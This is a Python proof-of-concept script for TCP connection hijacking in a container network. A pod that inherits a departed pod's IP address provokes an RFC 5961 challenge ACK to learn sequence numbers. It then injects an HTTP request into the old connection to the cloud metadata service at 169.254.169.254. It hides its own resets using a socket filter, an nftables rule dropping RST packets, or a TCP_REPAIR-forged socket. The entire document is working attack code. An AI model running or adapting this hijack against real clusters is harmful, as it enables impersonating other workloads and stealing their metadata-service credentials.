# A thief in a new pod that was given the address of one that is gone: it speaks on a connection which that one left open.
#
# The server's end of the connection is still established. A SYN with the same ports makes it tell the sequence numbers it
# expects, in what RFC 5961 calls a challenge ACK; data that carries those numbers is then as good as the old pod's own.
#
# Arguments: own address, port of the old connection, path to ask for, and how the thief keeps its own kernel from answering the
# server with a reset: "filter" (a socket that connects, and a filter on it that hears nothing), "drop" (no socket at all, and a
# firewall that lets no reset out) or "repair" (the same, then a socket put into the established state with the server's numbers:
# to every look it is the other end).
import ctypes
import socket
import struct
import subprocess
import sys
import time

address, port, line, way = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
METADATA = "169.254.169.254"
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
wire.bind(("eth0", 0))
wire.settimeout(0.1)


def gateway():
    with open("/proc/net/arp") as table:
        for row in table.readlines()[1:]:
            fields = row.split()
            if fields[0] == "169.254.1.1":
                return bytes.fromhex(fields[3].replace(":", ""))
    raise SystemExit("no gateway in the neighbour table")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


def frame(flags, seq, ack, data=b""):
    ends = socket.inet_aton(address) + socket.inet_aton(METADATA)
    tcp = struct.pack("!HHIIBBHHH", port, 80, seq, ack, 0x50, flags, 64240, 0, 0) + data
    tcp = tcp[:16] + checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends
    ip = ip[:10] + checksum(ip) + ip[12:]
    return gateway() + wire.getsockname()[4] + b"\x08\x00" + ip + tcp


def restored(seq, ack):
    """A socket that goes on where the old pod's one was."""
    repair, queue, queue_seq, window = 19, 20, 21, 29
    other = socket.socket()
    other.setsockopt(socket.IPPROTO_TCP, repair, 1)
    other.bind((address, port))
    for which, number in ((2, ack), (1, seq)):
        other.setsockopt(socket.IPPROTO_TCP, queue, which)
        other.setsockopt(socket.IPPROTO_TCP, queue_seq, struct.pack("I", number))
    other.connect((METADATA, 80))
    other.setsockopt(socket.IPPROTO_TCP, window, struct.pack("5I", seq, 65535, 65535, 65535, seq))
    # Off again, without a probe that would tell the server.
    other.setsockopt(socket.IPPROTO_TCP, repair, -1)
    return other


if way == "filter":
    mute = socket.socket()
    deny = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0))
    mute.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxQ", 1, ctypes.addressof(deny)))
    mute.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    mute.bind((address, port))
    mute.setblocking(False)
    mute.connect_ex((METADATA, 80))
else:
    rules = "table ip mute { chain out { type filter hook output priority 0; tcp flags & rst == rst drop; }; }"
    subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=True)
    wire.send(frame(SYN, 1_000_000, 0))

end = time.monotonic() + 1.5
said, injected = b"", False
while time.monotonic() < end:
    try:
        packet, source = wire.recvfrom(65536)
    except TimeoutError:
        continue
    if source[2] == socket.PACKET_OUTGOING or packet[23] != 6:
        continue
    ip = packet[14:]
    tcp = ip[(ip[0] & 15) * 4:int.from_bytes(ip[2:4], "big")]
    sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
    if (sport, dport) != (80, port):
        continue
    said += tcp[(offset >> 4) * 4:]
    if flags & (RST | FIN) or b"\r\n\r\n" in said and said.endswith(b"}"):
        break
    if not injected and flags & ACK:
        if flags & SYN:
            print("FRESH: the old connection is gone, this would be a new one")
            break
        request = f"GET {line} HTTP/1.1\r\nHost: {METADATA}\r\n\r\n".encode()
        injected = True
        if way == "repair":
            kept = restored(seq, ack)
            kept.send(request)
        else:
            wire.send(frame(PSH | ACK, ack, seq, request))
print("INJECTED" if injected else "NOT INJECTED")
print(said.decode(errors="replace"))
